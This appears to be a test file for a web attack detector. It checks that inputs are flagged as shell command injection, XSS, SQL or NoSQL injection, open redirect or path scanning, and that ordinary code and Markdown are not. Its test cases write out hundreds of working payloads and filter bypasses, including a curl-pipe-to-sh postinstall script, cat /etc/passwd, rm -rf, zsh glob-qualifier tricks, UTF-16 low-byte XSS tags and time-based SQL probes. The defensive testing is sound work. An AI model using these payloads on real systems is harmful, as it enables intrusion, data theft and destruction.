  for (const v of ['user[$ne]=1', 'username[$regex]=.*&password[$ne]=x', `${php}\nuser[$ne]=1`]) t.ok(json({ snippet: v }).includes('nosqli'), `still read: ${JSON.stringify(v).slice(0, 60)}`)
  // a form's Markdown page under a Setext title (`Wire⏎====`), as under a `#` heading: a `<details>` block after a blank line is the page's
  const wire = 'Wire\n====\n\n*"A man got to have a code!"* - Omar Little\n\n* It\'s focused. Proto schemas describe your data models.\n\n<details markdown="1">\n<summary>Example</summary>\n\nA block.\n</details>\n'
  const form = (v: string) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`body=${encodeURIComponent(v)}`) })
  t.same(form(wire), [], 'a Setext-titled page in a form')
  t.ok(q('x\n\n<details open ontoggle=alert(1)>').length > 0, 'a query\'s break then markup still read')
})

t.test("forty-sixth round: a tag whose brackets are characters of `<`'s and `>`'s low byte", async (t) => {
  // a reader that keeps a UTF-16 unit's low byte turns U+073C, U+073E and U+072F into `<`, `>` and `/`
  for (const v of ['%u073cscript%u073ealert(42)%u073c/script%u073e', '"\'\u073e\u073cscript\u073ealert(42)\u073c\u072fscript\u073e', '%u0722%u0727%u073e%u073cimg src=x onerror=alert(1)%u073e']) t.ok(q(v).includes('xss'), v)
  // text in other scripts: Chinese and Syriac with Latin words between such characters, no tag the low bytes make
  for (const v of ['\u4e3cdonburi\u4e3e and more', '\u0710\u073c\u0712 abc \u073e', '\u4e3c script \u4e3e']) t.same(json({ text: v }), [], v)
})

t.test("forty-sixth round: cmd.exe started by a package's own script", async (t) => {
  // JSON Editor's `winserver` script: a command collection's own command line may start cmd.exe, as it may start bash
  const manifest = { name: '@json-editor/json-editor', scripts: { 'serve-test': 'http-server --p 9001', winserver: 'cd tests && start cmd /c npm run serve-test .', build: 'npm run a && cmd /c npm run b' } }
  t.same(json(manifest), [], 'scripts starting cmd.exe')
  // a value that is no command field's still is read, and so is a download run at once in a script
  for (const v of ['x && cmd /c whoami', 'cd tests && start cmd /c npm run serve-test .']) t.ok(json({ q: v }).includes('rce'), `still read: ${v}`)
  t.ok(json({ scripts: { postinstall: 'curl -s http://127.0.0.1:9/x.sh | sh' } }).includes('rce'), 'a download run at once in a script')
})

t.test("forty-sixth round's review of zsh's glob qualifiers: any delimiter, a path's word, a list ending the word", async (t) => {
  // zsh 5.9 ran `id` from each (BARE_GLOB_QUAL, its default): delimiters it takes, paired brackets and braces, a path's word, a long list
  const runs = ['*(e[id])', '*(e{id})', '*(e,id,)', '*(e@id@)', '*(e#id#)', '*(e~id~)', '*(e=id=)', '*(e-id-)', '*(e.id.)', '*(e+id+)', '/(e:id:)', '~(e:whoami:)', '/tmp/(e[id])', '.(e,id,)', '..(e:id:)', '/(+id)', '/(e:uname -a:)', '/(e[sleep 1])', '*(NNNNNNNNNe:id:)', '*(+id:t)', '*(e:id\n:)', '~/(e:id:)', '127.0.0.1 *(e:id -a:)', 'x *(+id)', '/*(e:"id":)', 'x ?(.e:id:)']
  for (const v of runs) t.ok(q(`127.0.0.1 ${v}`).includes('rce'), JSON.stringify(v))
  // code: arithmetic and pointers glued to an operand, TypeScript's optional methods, minified calls, regular expressions, prose
  const code = ['return 3*(b+c)/4-c', 'total = 2*(a+b)', 'char c = *(p+i);', 'switch(*(uri+i)) {', 'int v = *(++it);', 'while(*(++lookahead) == value)', '    onError?(err: Error): void;', 'onKeyDown?(e: KeyboardEvent, editor: Editor): boolean;', 'cb?(e:x:)', '#selector(insert(e:at:))', 'int y = *(p + i);', 'a.*(e:x)', '*(e.g. RSA)*', '/\\s/.test(e[n-1])', 'yield*loadFileChain(e,t,void 0,r);', '&~(e.suspendedLanes&~e.pingedLanes)', "duration: /^P(?!$)((\\d+Y)?(\\d+M)?(\\d+D)?(T(?=\\d)(\\d+H)?(\\d+M)?(\\d+S)?)?$/,", ' *     pkt:=2.00743*Log(2)*k*2^-k*(A+B);']
  for (const v of code) t.same(json({ snippet: v }), [], JSON.stringify(v))
})

t.test("forty-sixth round's review: process substitution, and zsh's (e) flag", async (t) => {
  // bash and zsh ran the command in `<(…)` and `>(…)`, zsh in `=(…)`, each opening a word; zsh's `(e)` flag ran what it substituted again
  for (const v of ['127.0.0.1 <(id)', 'x >(curl -s http://127.0.0.1:9/x)', 'x =(id)', 'cat <(whoami)', '127.0.0.1 ${(e):-\\$\\(id\\)}', '127.0.0.1 ${(e):-\\`id\\`}']) t.ok(q(v).includes('rce'), v)
  // a comparison or an array's assignment glued to a word, and a flag's expansion with no substitution in it
  for (const v of ['if (x<(id)) y', 'arr=(id)', 'a >(b)', 'x = (id)', 'print ${(e)var}', 'x ${(j:,:)arr}']) t.same(json({ snippet: v }), [], v)
})

t.test("forty-sixth round's review: a row a backslash joins to a here-document, an alias spelt by an expansion, a substitution in a row, an operator followed by a bracket", async (t) => {
  // each ran `id` (or `touch`) in bash, dash, zsh or `bash --posix` spliced into `convert … out.png`, `echo '…'`, `grep "…" f`
  const runs = [
    'a.png <<E \\\n127.0.0.1 | id > /tmp/x |\n|--|\nE\n',
    "x' <<E \\\n127.0.0.1 | id > /tmp/x |\n|--|\nE\ntrue '",
    'cat <<E \\\nx | touch /tmp/x |\n|--|\nE\ntrue',
    "a.png\nBASH_ALIASES[a]='true #'\n127.0.0.1 | id > /tmp/x | a |\n|--|\n",
    "a.png\nx=ali; ${x}as a='true #'\n127.0.0.1 | id > /tmp/x | a |\n|--|\n",
    'a |\n| $(127.0.0.1 | id > /tmp/x) |',
    'a |\n| x $(x | id > /tmp/x) y |',
  ]
  for (const v of runs) {
    t.ok(q(v).includes('rce'), JSON.stringify(v))
    t.ok(json({ q: v }).includes('rce'), `in a JSON field: ${JSON.stringify(v)}`)
  }
  // Express's qs reads `password[$ne][…]=1` as the operator whatever the brackets hold: a parameter's name, and a value it parses
  const js = '$(document).ready(function() {\n  var x = 1;\n  return x;\n});\n'
  t.ok(detector.detect({ ...base, query: `user=admin&password[$ne][${encodeURIComponent(js)}]=1` }).includes('nosqli'), 'a name shaped as code')
  t.ok(json({ filter: `${js}&password[$ne][a]=1&user=admin` }).includes('nosqli'), 'a value shaped as code holding a query string')
})

t.test("the forty-sixth round's readings are bounded: breaks after blanks and written breaks", async (t) => {
  // 64 KiB of `n`, backslashes and blanks, then breaks: the text before each break is counted on from the last one, not again from the start
  const v = `${'n \\'.repeat(21000)}${'\nx'.repeat(40)}; id`
  t.type(shellInjection(v), 'boolean', 'read to its end')
})

t.test("forty-sixth round's second review: qualifiers glued to a name, process substitution inside a word, the (e) flag's codes, a low byte's blanks, and their costs", async (t) => {
  // zsh ran `id` for each: a name's `*` with the list, a qualifier's letters before `+`, a quote after the list
  for (const v of ['a*(e:id:)', '[a]*(e:id:)', '*(N+id)', '*(ND+id)', 'a*(+id)', '*(e:id:)""']) t.ok(q(`a.png ${v}`).includes('rce'), v)
  // bash and zsh ran the command after `=`, `:`, `,`, `{`; zsh's (e) flag ran `$'\44'(id)` and `${(#):-36}(id)`
  for (const v of ['a.png --in=<(touch /tmp/m)', 'a.png x:<(id)', 'a.png {a,<(id)}', "a.png ${(e):-$'\\44'(id)}", 'a.png ${(e):-${(#):-36}(id)}']) t.ok(q(v).includes('rce'), v)
  // Chromium ran the handler of the tag a low byte makes, its attributes parted by U+0720
  t.ok(q('\u073cimg\u0720src=x\u0720onerror=alert(42)\u073e').includes('xss'), 'a low byte\'s blanks')
  // code the qualifiers' reading must pass over: a cast's reference, a stylesheet's escaped parenthesis, a comment's NOLINT, a regular
  // expression's group, arithmetic by e, an array of e, a minified call, a comparison
  for (const v of ['reinterpret_cast<const std::atomic<Address>*>(&table[index]);', '.text-\\(--fc-pulse-muted-foreground\\) {', 'use(a);//NOLINT(bugprone-use-after-move)', 'src.match( /data:(image\\/\\w+);base64/ )', 'y = 2*(e-1-x);', 'z = 2*(e[i]);', 'x = *(n+len);', 'return t=e;.(e,n,)', 'f(x,<(y))', '\u4e3cimg\u4e20abc']) t.same(json({ snippet: v }), [], JSON.stringify(v))
  // each reading of 64 KiB stays bounded (a qualifier's body read to its first closing delimiter; the flags read as one run)
  const big = new AttackDetector({ maxInspectBytes: 1 << 20 })
  for (const v of [(';/'.repeat(100) + '(' + 'e,'.repeat(8) + ','.repeat(384)).repeat(80), ('${(eeeeeeeeee)').repeat(5000), (' a*b' + '*'.repeat(100) + '(e:' + 'x'.repeat(390)).repeat(120)]) {
    t.type(big.detect({ ...base, query: `q=${encodeURIComponent(v.slice(0, 65536))}` }), Array, `${v.slice(0, 12)}… read`)
  }
})

t.test("forty-sixth round's third review: a case's pattern list broken onto a line opening on `|`, a command field's process substitution, the (e) flag's cost", async (t) => {
  // dash and zsh ran `id`: the line opening on `|` continued the pattern list, its command after `)` a real pipeline
  for (const v of ['a.png; case x in\n(a|\n|x) 127.0.0.1 | id\nesac', 'case x in\n(a|\n|x) 127.0.0.1 | id\nesac', 'a.png; case x in\na|\n|x) 127.0.0.1 | id\nesac']) t.ok(q(v).includes('rce'), JSON.stringify(v))
  // a package's script, a task's and a CI step's command: their own process substitution
  for (const doc of [{ scripts: { cols: 'paste <(cut -f1 a.tsv) <(cut -f2 b.tsv)' } }, { run: 'paste <(cut -f1 a) <(cut -f2 b)' }, { version: '2.0.0', tasks: [{ label: 'cols', type: 'shell', command: 'paste <(cut -f1 a.tsv) <(cut -f2 b.tsv)' }] }]) t.same(json(doc), [], JSON.stringify(doc))
  t.ok(json({ q: 'x <(id)' }).includes('rce'), 'still read in any other field')
  const big = new AttackDetector({ maxInspectBytes: 1 << 20 })
  for (const unit of ['${(e)', '${(e)x', '${(e):-$', '${(ee)a\\x']) t.type(big.detect({ ...base, query: `q=${encodeURIComponent(unit.repeat(Math.ceil(65536 / unit.length)).slice(0, 65536))}` }), Array, `${unit}… read`)
})

t.test("forty-sixth round, after the ninety-third to ninety-sixth parts' measurement: a Markdown link's text and anchor are no glob and qualifiers", async (t) => {
  // Blueprint's documentation and textlint's guide (the ninety-fourth part): `[**bold**](#anchor/path)`, `[…?](./x.md)`
  for (const v of ['It is built using the lower-level [**Overlay2**](#core/components/overlay2) component.', '-   [**DateRangePicker3**](#datetime2/date-range-picker3)', '    - [How to implement "after-all" in the rule?](./rule-tips-after-all.md)']) t.same(json({ description: v }), [], v)
  // zsh's qualifiers after a glob's word are still read, and a qualifier list's characters are zsh's (`#` is none)
  for (const v of ['a.png a*b(e:id:)', 'a.png /tmp/(e[id])', 'a.png *(e:id:)']) t.ok(q(v).includes('rce'), v)
})

t.test("forty-sixth round's fourth review: qualifiers with delimited arguments, a glob's class before the list, a command field by its whole name, a definer's word as a column", async (t) => {
  // zsh ran `id` once per file: `u`, `f`, `P` take `{…}` or a delimiter of their own; a character class ends the glob's word
  for (const v of ['*(u{root}e:id:)', '*(u#root#e:id:)', '*(u!root!e:id:)', '*(u~root~e:id:)', '*(u?root?e:id:)', '*(f{u+r}e:id:)', '*(P{x}e:id:)', './passw[d](e:id:)', '*[d](e:id:)', './[a](e:id:)']) t.ok(q(`a.png ${v}`).includes('rce'), v)
  // a Markdown link's target, an anchor or a relative path after the text's `]`, is no qualifier list
  for (const v of ['It is built using the lower-level [**Overlay2**](#core/components/overlay2) component.', '    - [How to implement "after-all" in the rule?](./rule-tips-after-all.md)', 'see [*the* docs](https://example.com/the-page-e-x-y) now']) t.same(json({ description: v }), [], v)
  // a report's `startDate` spliced into `date -u -d …` ran `<(id)` in bash: only a field named for a command line as a whole passes it
  for (const doc of [{ startDate: '<(id>/tmp/x)' }, { args: '127.0.0.1 >(id>/tmp/x)' }]) t.ok(json(doc).includes('rce'), JSON.stringify(doc))
  // a numeric context's column named `def` or `sub` (`id = def or 2>1` returned every row in PostgreSQL and SQLite)
  for (const v of ['def or 2>1', "def or 'a'='a'", 'sub or 2>1', 'def or (select count(*) from users where password like \'s%\')>0']) t.ok(q(v).includes('sqli'), v)
})

t.test('forty-seventh round: a command after any number of separators, read to the value\'s end (16,384 at most)', async (t) => {
  // padding past the first 32 separators hid the command: every separator is read now
  for (const [pad, cmd] of [['a;', 'id'], ['b&', 'whoami'], ['x|', ' cat /etc/passwd'], ['x && ', 'uname -a'], ['line of text\n', '; uname -a'], ['a || b; ', 'id;']] as const) {
    const v = pad.repeat(200) + cmd
    t.ok(q(v).includes('rce'), `${JSON.stringify(pad)} ×200 then ${JSON.stringify(cmd)}`)
    t.ok(json({ v }).includes('rce'), `${JSON.stringify(pad)} ×200 then ${JSON.stringify(cmd)} (JSON)`)
  }
  // a program set to a variable far before it is run (the names a value assigns are read once per value)
  t.ok(q(`x=cat;${'a;'.repeat(300)}$x /etc/passwd`).includes('rce'), 'x=cat; … $x /etc/passwd')
  t.ok(q(`x='whoami';${'a;'.repeat(300)}$x -a`).includes('rce'), "x='whoami'; … $x")
  // a quoted program's name far into the value is still judged unquoted
  t.ok(q(`${'a;'.repeat(800)}; "id" -a`).includes('rce'), '…; "id" -a')
  // long values of code stay as they were: no more of them flagged for being read further
  const code = Array.from({ length: 60 }, (_, i) => `const v${i} = (options.v${i} ?? 0) | 0; // ${i}`).join('\n')
  t.same(json({ snippet: code }), [], '60 lines of code with `|` and `;`')
  // and a value of hostile shapes is judged to its end in linear time (each shape once at 64 KiB, read: no verdict asserted)
  const big = new AttackDetector({ maxInspectBytes: 1 << 20 })
  for (const unit of ['&\\`', ' $(${x}', '(a & $x) ', ';$x ', '; "id" x', "x;'id' ", '&&)', '=($xsleep 1;', '\n', '-x#\\&&`', ';lia /', ';"id"=a $x ;$x a=a=a=', "'(;", '|where a==b', 'get-xx y|sort-object -a\n', 'a$(', '`(${x})` ']) {
    const v = unit.repeat(Math.ceil(65536 / unit.length)).slice(0, 65536)
    t.type(big.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify({ v })) }), Array, `${JSON.stringify(unit)}… read`)
  }
})

t.test('forty-seventh round: a generic type named as a program, given a primitive type or a parameter, is no command', async (t) => {
  // TypeScript's unions and signatures (knip's, es-toolkit's, type-fest's declarations): `Set<string>`, `Set<T>`, `sort<T>(…)`
  for (const v of ['(npmScripts: string | string[] | Set<string>, options: T) => Input[];', 'x: a | b[] | set<string>, y', 'export type K = Set<T> | Date[] | Set<number>;']) t.same(json({ snippet: v }), [], v)
  // input from a file of another name, or output to one, is a command line still
  for (const v of [';cat<flag.txt>x', ';cat</etc/passwd', 'a[] | id', 'x | set<string> > /tmp/o; id']) t.ok(q(v).includes('rce'), v)
  // (review) once a file `t` exists, `rm<t> o -rf victim` deleted `victim` in bash, dash and zsh, `sh<t> /dev/stdout -c id` ran `id`, and
  // `id<t>(echo x)` runs a process substitution: only a `>` the shells refuse for want of a file, or `set`, passes
  for (const v of ['a;>t;rm<t> o -rf victim', 'a;>t;sh<t> /dev/stdout -c id', 'a;>t;id<t>/dev/stdout', 'a;touch t;id<t>/dev/stdout', 'a;id<t>(echo x)', 'a;id<t>|x', 'a;id<t>&2', 'a;id<t>, y']) t.ok(q(v).includes('rce'), v)
  for (const v of ['x | sort<string>;', 'f(a: Set<string>, b: Set<T>): void;', 'type U = Set<T> | Date[] | Set<number>']) t.same(json({ snippet: v }), [], v)
  // (second review) `set` given a process substitution or a substitution, and a carriage return, which the shells take for no line's end
  for (const v of ['x; set<t>(touch pwned)', 'x; set<t>`touch pwned`', 'x; set<t,u>(touch pwned)', 'x; rm<t>\r -rf victim', 'x; sh<t>\r']) t.ok(q(v).includes('rce'), JSON.stringify(v))
})

t.test("forty-seventh round: JavaScript's test for NaN and an equality with a longer string are no NoSQL tautology", async (t) => {
  // fast-deep-equal's, dequal's and lodash's `eq`; yaml's number stringifier
  for (const v of ['  // true if both NaN, false otherwise\n  return a!==a && b!==b;\n};', 'return value === other || (value !== value && other !== other);']) t.same(json({ snippet: v }), [], v)
  // a quoted operand on either side, an inequality with a longer string, plain tautologies, and (second review) NaN itself, and an
  // equality with a longer string indexed or measured (the exemption for yaml's `tag === 'tag:yaml…'` taken back)
  for (const v of ["' && 'a'!=='a", "0 || 1!=='1::'", "x || x!=='x:y'", "0 || 1!='1::'", "' || 'a'=='a", "' || '1'=='1", 'a && b!=b', '1 || NaN!==NaN', '1) || NaN!==NaN || (1', "admin' || NaN!==NaN //", "0 || 2==='2:'.length", "0 || 'a'=='a/'[0]", "0 || 1=='1:'[0]"]) t.ok(q(v).includes('nosqli'), v)
})

t.test("forty-seventh round: a template literal's expansion in parentheses; a word of dots glued to a call's parenthesis", async (t) => {
  // typescript-eslint's and ESLint's `(${text})`: a subshell running a program no variable of the value names
  for (const v of ['return nodePrecedence > parentPrecedence ? text : `(${text})`;', 'objectText = `(${objectText})`;']) t.same(json({ snippet: v }), [], v)
  // (second review) a loop's variable, `read`'s, set without `=`: bash, dash and zsh deleted `victim`
  for (const v of ['x=id; `(${x})`', 'x=id; ` (${x}) `', 'a;`(${ifs}id)`', 'x; echo rm -rf victim | for x in sh; do `(${x})`; done', 'x; for x in id; do `(${x})`; done', 'x && for i in id; do `(${i})`; done', 'read x; `(${x})`', 'x; for x in id; do `${x}`; done', 'x && for i in id; do `${i}`; done']) t.ok(q(v).includes('rce'), v)
  // a method's call: bash and dash refuse `a.b(`, zsh matches it as a glob (the `&` among a call's arguments, forty-fifth round)
  t.same(json({ snippet: 'a.b(x & id)' }), [], 'a.b(x & id)')
  // (second review) a pipe among a call's arguments is read as before: zsh expands `/*/*/i(d|id)` to /usr/bin/id, PowerShell runs the
  // pipeline of `f(x | sh -c id)`
  for (const v of ['/*/*/i(d|id)', 'x /tm(p|id)(e:id:)', 'f(x | sh -c id)', 'f(x | bash -c id )']) t.ok(q(v).includes('rce'), v)
})

t.test('forty-seventh round: an embedded page in Markdown as MDX writes it', async (t) => {
  // CodeSandbox's embeds (react-number-format's and GraphQL Tools' pages), Loom's (Twilio Paste's): JSX's `className`, `{true}`, `/>`,
  // attributes on lines of their own
  const page = (frame: string) => `### prefix \`string\`\n\nAdds the prefix character before the input value.\n\n\`\`\`js\nimport { NumericFormat } from 'react-number-format';\n\`\`\`\n\n<details>\n  <summary>\n  Demo\n  </summary>\n${frame}\n</details>\n`
  for (const frame of [
    '  <iframe src="https://codesandbox.io/embed/prefix-demo-6ibo72?fontsize=14&hidenavigation=1&theme=dark&view=preview"\n     title="prefix-demo"\n     className="csb"\n     allow="accelerometer; ambient-light-sensor; camera; encrypted-media"\n     sandbox="allow-forms allow-modals allow-popups allow-same-origin allow-scripts"\n   ></iframe>',
    '<iframe\n  src="https://codesandbox.io/s/github/dotansimha/graphql-yoga/tree/main/examples/hello-world"\n  className="!h-[600px]"\n  title="Yoga Hello world example"\n/>',
    '    <iframe\n      src="https://www.loom.com/embed/f70204bd8a4f4f21a5b1ded17f4559d1"\n      frameBorder="0"\n      webkitallowfullscreen="true"\n      mozallowfullscreen="true"\n      allowfullscreen={true}\n    ></iframe>',
  ]) t.same(json({ body: page(frame) }), [], frame.slice(0, 60))
  // a handler, a script URL, an expression that calls something: still xss
  for (const frame of ['<iframe src="https://a.example/x" onload="alert(1)"></iframe>', '<iframe className="a" src="javascript:alert(1)" />', '<iframe src="https://a.example/x" allowfullscreen={alert(1)}></iframe>']) t.ok(json({ body: page(frame) }).includes('xss'), frame)
  // a style of its size and border only (StackBlitz's embed in TanStack Pacer's pages), not one that fixes the frame over the page
  t.same(json({ body: page('<iframe src="https://stackblitz.com/github/TanStack/pacer/tree/main/examples/react/util-comparison?embed=1&view=preview" width="100%" height="1200px" style="border: 1px solid #ccc; border-radius: 4px;"></iframe>') }), [], 'StackBlitz')
  for (const frame of ['<iframe src="https://a.example/x" style="position:fixed;top:0;left:0;width:100%;height:100%;opacity:0"></iframe>', '<iframe src="https://a.example/x" style="border:0;background:url(javascript:alert(1))"></iframe>']) t.ok(json({ body: page(frame) }).includes('xss'), frame)
  // (third review) inside a single-quoted attribute, its source's quotes paired with that attribute's: Chromium ran the `<img>`'s handler
  for (const v of ["## Title\n\n<img src=x alt='<iframe src='x/onerror=alert(1)//' />", "## Title\n\n<div><img src=x alt='<iframe src='x/onerror=alert(1)//' /></div>", "## Title\n\n<img src=x alt='<iframe width={1} src='x/onerror=alert(1)//' />", "## Title\n\n<img src=x alt='<iframe src='x/onerror=alert(1)//'>", "## Title\n\n<img src=x alt='<iframe src='x/onerror=alert(1)//'\n>"]) t.ok(json({ body: v }).includes('xss'), JSON.stringify(v))
  // (second review) an `<iframe` inside another tag's attribute: Chromium ran the `<img>`'s handler the frame's title seemed to hold
  for (const v of ['# Demo\n\n<img src=x alt="<iframe title=" onerror=alert(1) " />\n', '# Demo\n\n<img src=x alt="<iframe src=a.html title=" onerror=alert(1) " />\n', '# Demo\n\n<img src=x alt="<iframe title=" onerror=alert(1) ">\n']) t.ok(json({ body: v }).includes('xss'), JSON.stringify(v))
})

t.test("forty-seventh round: a JavaScript file's directive prologue and a benchmark runner's call are no SQL", async (t) => {
  // every CommonJS file a compiler writes opens on `"use strict";`, a licence's comment after it (cut before it closes)
  for (const v of ['"use strict";\n/*', "'use strict';\n/*    Copyright 2021 Google LLC", '    benchmark ({', '  benchmark ({\n    name: "parse",\n  });']) t.same(json({ snippet: v }), [], v)
  for (const v of ['admin";/*', '"use strict"; or 1=1--', "'use strict' or '1'='1", 'benchmark(50000000,MD5(1))--', 'sleep(5)#']) t.ok(q(v).includes('sqli'), v)
  // (third review) a stacked query after the prologue (MariaDB, PostgreSQL and SQLite deleted every row), a comment closed before one, and
  // MySQL's ODBC escape (`sleep({x 5})` slept 5 s in MariaDB)
  for (const v of ["'use strict';DELETE FROM users--", '"use strict";DELETE FROM users', "'use strict';\nselect * from users", "'USE STRICT';DELETE FROM users", "'use strict';/* x */DELETE FROM users", 'sleep({x 5})', 'sleep({x 5})=0', 'benchmark({x 5000000},md5(1))']) t.ok(q(v).includes('sqli'), v)
})

t.test("forty-seventh round: TypeScript's exported union, its members on lines of their own", async (t) => {
  // ts-pattern's `BuiltInObjects` (the hundred-and-third part, after its measurement): bash runs `export` and stops at the next line's pipe
  for (const v of ['export type BuiltInObjects =\n  | Function\n  | Date\n  | RegExp\n  | Generator', 'export declare type T =\n  | Date\n  | Set']) t.same(json({ snippet: v }), [], v)
  // a member given a program's arguments is read as before
  t.ok(q('export type X =\n  | Date\n  | id -a').includes('rce'), 'a member with arguments')
})

t.test('forty-seventh round: a long token before a line break, and a run of assignments glued to backticks', async (t) => {
  // one token up to 2,048 characters before a break parts two commands, as a short one did (`b`×100 then `⏎id`: bash, dash and zsh ran `id`)
  for (const v of [`${'b'.repeat(100)}\nid`, `${'a;'.repeat(40)}\nid`, `${'x'.repeat(2000)}%0aid`.replace('%0a', '\n')]) t.ok(q(v).includes('rce'), `${v.length} characters then id`)
  // a line of words before it is none (prose, code)
  t.same(json({ snippet: `${'word '.repeat(30)}\nid card` }), [], 'words, then a line')
  // (before this round too) assignments glued to backticks handed the judgement on until the stack ran out: judged to a depth, no RangeError
  const unit = '`echo=0time\t'
  const v = unit.repeat(Math.ceil(65536 / unit.length)).slice(0, 65536)
  t.doesNotThrow(() => shellInjection(v), 'no RangeError at 64 KiB')
  t.type(new AttackDetector({ maxInspectBytes: 1 << 20 }).detect({ ...base, query: `q=${encodeURIComponent(v)}` }), Array, 'read through detect')
})

t.test('forty-eighth round: a name appended to, given a default inside an expansion, or run after a weak separator', async (t) => {
  // bash and zsh append to an unset name (`x+=id` sets x to `id`), and `${x:=id}` sets x where it is unset: `$x -u` ran `id -u` in both
  for (const v of ['a=1;x+=id;$x -u', 'x+=id;$x -u', ': ${x:=id};$x -u', 'a; : ${x:=cat};$x /etc/passwd']) t.ok(q(v).includes('rce'), v)
  // and a name set to a program, run after a weak separator (`&` ran `true` in the background, then `id`, in bash, dash and zsh)
  for (const v of ['x=id;(true & $x )', 'x=id;a & $x', "x='whoami';a | ${x}"]) t.ok(q(v).includes('rce'), v)
  // a sigil's operand the value never sets to a program is still an operand (PHP's and Perl's `&`)
  for (const v of ['(a & $code)', '$x=1; if ($a & $x ) {}']) t.same(json({ snippet: v }), [], v)
  // Go's short declaration is no such default (`err:=` outside an expansion), and an appended name that holds no program is none
  for (const v of ['err:=f(); $err -u', 'count+=1 and total+=2']) t.same(q(v), [], v)
})

t.test("forty-eighth round's review: a lone expansion between backticks, whose name the value sets another way", async (t) => {
  // the lone `${x}` in backticks is passed over only where the value does not set x (forty-seventh round); these set it without a plain
  // `x=` — an escaped or quoted name for eval, an array's element, zsh's `::=`, a match's or the last command's variable, a loop without
  // `in` or with more blanks, `set --`, `set -A`, `print -v`, `printf -vx` — and each ran `id` in bash, zsh or dash
  for (const v of ['eval x\\=id;a`${x}`', "eval 'x'=id;a`${x}`", 'export x\\=id;a`${x}`', 'x[0]=id;a`${x}`', 'x[0]+=id;a`${x}`', ': ${x::=id};a`${x}`', '[[ id =~ id ]];a`${BASH_REMATCH}`', '[[ id =~ id ]];a`${MATCH}`', ' id;a`${_}`', 'set -- id;a`${argv}`', 'set -A x id;a`${x}`', 'print -v x id;a`${x}`', 'for x (id) a`${x}`', 'set -- id;for x;do a`${x}`;done', 'for     x in id;do a`${x}`;done', 'printf -vx id;a`${x}`']) t.ok(q(v).includes('rce'), v)
  // after a separator the span is read as before the round: an unset name expands to nothing and the words after it run
  for (const v of ['127.0.0.1;`${u}`touch /tmp/x', '127.0.0.1 && `${u}` rm -rf /tmp/victim', 'a;`${b}`id', '; ` (${u}) ` id', 'x\n`${u}`id']) t.ok(q(v).includes('rce'), v)
  // a template literal's own names are still passed over
  for (const v of ['const a = b`${_foo}`', 'const s = css`${styles.active}`']) t.same(json({ snippet: v }), [], v)
})

t.test("forty-eighth round: the hundred-and-seventh part's misses after its measurement, by kind", async (t) => {
  // a host name with `_` in a label, as out-of-band services hand them out, given to a ping after a separator
  for (const v of [';ping rce_k3x9q.glc.st|', '\nping rce_k3x9q.glc.st\n', '||ping a_b.example.com|']) t.ok(q(v).includes('rce'), v)
  // a program by its system path, its arguments, then a separator and a listed program
  for (const v of ['/usr/bin/id | ps aux', '/usr/bin/id >/tmp/id.txt | ps aux', '/bin/ls -al; whoami']) t.ok(q(v).includes('rce'), v)
  t.notOk(json({ snippet: '/usr/bin/env | not a command here' }).includes('rce'), 'a program by its path, then prose')
  // after a breakout, `exists` given no sub-query (a probe for a grammar that wants one), judged by what follows it
  for (const v of ["') OR EXISTS SLEEP(5)", '" OR EXISTS 1=1/**/', "') AND EXISTS version()=version()--"]) t.ok(q(v).includes('sqli'), v)
  for (const v of ['it exists or not', 'x or exists 1', 'Whether it exists or exists not']) t.same(q(v), [], v)
  // the media and pointer events' handlers after a quote that breaks out of an attribute
  for (const v of ["' onratechange=alert(1) x='", '" onpointerrawupdate=alert(1) x="', "' ontimeupdate=alert(1) x='", "' onended=alert(1) x='", "' onloadstart=alert(1) x='", '" onvolumechange=alert(1) x="']) t.ok(q(v).includes('xss'), v)
  // a probed file with a blank after its name, which Windows' file system drops
  for (const p of ['/laravel/.env%20', '/.env%09', '/backup.zip%20']) t.ok(path(p).includes('scanner'), p)
  t.same(path('/docs/getting%20started'), [], 'a blank inside a page name')
  // (second review) not a `localhost.` host of any domain (a tunnelling service's site, `https://localhost.run/docs/`, a developer's
  // `https://localhost.mycorp.com:3000/callback`), nor a name where the port goes, which hid the checks after it for the request's own host
  for (const v of ['https://localhost.run/docs/', 'https://localhost.mycorp.com:3000/callback']) t.notOk(q(v, 'url').includes('ssrf'), v)
  for (const v of ['https://shop.example.com:a.b/redirect?url=https://evil.com', 'https://shop.example.com:a.b/;https://evil.com']) t.ok(q(v, 'next').includes('open_redirect'), v)
})

t.test("forty-eighth round's second review: the lone expansion's guards, neither too wide nor too narrow", async (t) => {
  // a comment's `for now`, `for Safari (WebKit …)`, a query's `SELECT name⏎`, and JavaScript's own names (`match`, `reply`, `history`) no longer
  // take the lone expansion's exemption away (each was rce since the review's first fix)
  for (const v of ['el.title = `${title}`; // for a11y (screen readers)', 'const k = `${id}`; // for now\n', 'el.title = `${title}`; // needed for Safari;', '// Workaround for Safari (WebKit bug 226547)\nconst k = `${id}`;', '/* Fallback for IE11; remove in v3 */\nconst url=`${base}`;', 'const q = `SELECT name\nFROM users`\nreturn`${x}`', 'const text = `${reply}`;', 'return`${match}`', 'el.title = `${history}`;']) t.same(json({ snippet: v }), [], v)
  // names set another way (each ran `id` in dash, bash and zsh, or the shell named): a quote after the name, eval with text before the `=`,
  // a continued line, a loop's name after one, bash's `${!r:=…}`, zsh's flags; a match's variables after `=~`
  for (const v of ["127.0.0.1;export x'=id';echo a`${x}`", '127.0.0.1;export x"="id;echo a`${x}`', '127.0.0.1;eval x$(:)=id;echo a`${x}`', '127.0.0.1;eval x${u}=id;echo a`${x}`', '127.0.0.1;x\\\n=id;echo a`${x}`', '127.0.0.1;for \\\nx in id;do echo a`${x}`;done', '127.0.0.1;r=x;: ${!r:=id};echo a`${x}`', '127.0.0.1;: ${(A)x::=id};echo a`${x}`', '[[ id =~ (id) ]];a`${match}`']) t.ok(q(v).includes('rce'), v)
})

t.test("forty-eighth round: the hundred-and-ninth part's misses after its measurement, by kind", async (t) => {
  // a service account's key file, a copy of a server's descriptor, a Java application's framework descriptors: probed, never served
  for (const p of ['/service-account.json', '/backup.server.xml', '/global.web.xml', '/applicationContext.xml', '/logback.xml', '/portlet.xml', '/liferay-portlet.xml', '/struts.xml']) t.ok(path(p).includes('scanner'), p)
  for (const p of ['/sitemap.xml', '/feed.xml', '/rss.xml', '/api/v1/users.xml', '/browserconfig.xml']) t.notOk(path(p).includes('scanner'), p)
  // Handlebars' partial named by a climb of two levels, and Mako's Python introspection
